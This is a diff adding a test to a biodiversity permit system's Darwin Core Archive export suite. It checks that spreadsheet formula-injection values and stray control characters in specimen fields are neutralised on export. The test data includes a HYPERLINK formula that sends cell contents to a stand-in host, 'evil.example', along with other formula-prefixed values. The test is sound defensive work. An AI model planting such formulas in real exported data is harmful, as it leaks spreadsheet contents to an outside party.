@@ -174,6 +174,50 @@ describe.each(testDialects)('the Darwin Core Archive (%s)', (dialect) => {
   );
 
   it(
+    'writes no cell a spreadsheet would run as a formula, keeps negative coordinates as numbers, and no separator inside a value',
+    async () => {
+      const p = await anIssuedPermit(t, approver);
+      const hostile = aSpecimenRow({
+        scientificName: '=HYPERLINK("https://evil.example/?"&A1,"Platymantis")',
+        unit: '+1 tissue samples',
+        state: '@SUM(A1:A9)',
+        location: {
+          province: '-2+3 Laguna',
+          cityOrMunicipality: 'Los\u000bBaños\u000cof\u0085the\u2028Lake\u2029Region\u001eEnd',
+          barangay: ' =1+1',
+          latitude: -12.5,
+          longitude: -121.25,
+        },
+      });
+      const report = await reportOf(p, [hostile]);
+      await actOk(t, evaluator, p.receipt.id, { action: 'accept_obligation', obligationId: report.obligationId });
+      const permit = await t.database.db.selectFrom('permits').selectAll().where('id', '=', p.permitId).executeTakeFirstOrThrow();
+      const issuedOn = manilaDate(permit.date_issued as string);
+      const response = await download(chief, `issuedFrom=${issuedOn}&issuedTo=${issuedOn}`);
+      expect(response.statusCode, response.body).toBe(200);
+      const files = unzipSync(new Uint8Array(response.rawPayload));
+      const occurrenceText = new TextDecoder().decode(files['occurrence.txt']);
+      // Nothing a reader could take for a line or field break but the archive's own tabs and line feeds.
+      expect(occurrenceText).not.toMatch(/[^\P{Cc}\t\n]|[\u2028\u2029]/u);
+      const occurrences = tableOf(occurrenceText);
+      expect(occurrences.rows.every((row) => Object.keys(row).length === occurrences.header.length)).toBe(true);
+      const row = occurrences.rows.find((r) => r.occurrenceID === `urn:biopermit:specimen:${report.submissionId}:1`);
+      expect(row).toMatchObject({
+        scientificName: `'=HYPERLINK("https://evil.example/?"&A1,"Platymantis")`,
+        organismQuantity: '4',
+        organismQuantityType: "'+1 tissue samples",
+        preparations: "'@SUM(A1:A9)",
+        stateProvince: "'-2+3 Laguna",
+        municipality: 'Los Baños of the Lake Region End',
+        locality: "' =1+1",
+        decimalLatitude: '-12.5',
+        decimalLongitude: '-121.25',
+      });
+    },
+    TEST_TIMEOUT_MS,
+  );
+
+  it(
     'refuses dates that are not calendar dates, a range that ends before it starts, a missing date and the roles without it, auditing nothing',
     async () => {
       const before = await exportsAudited();
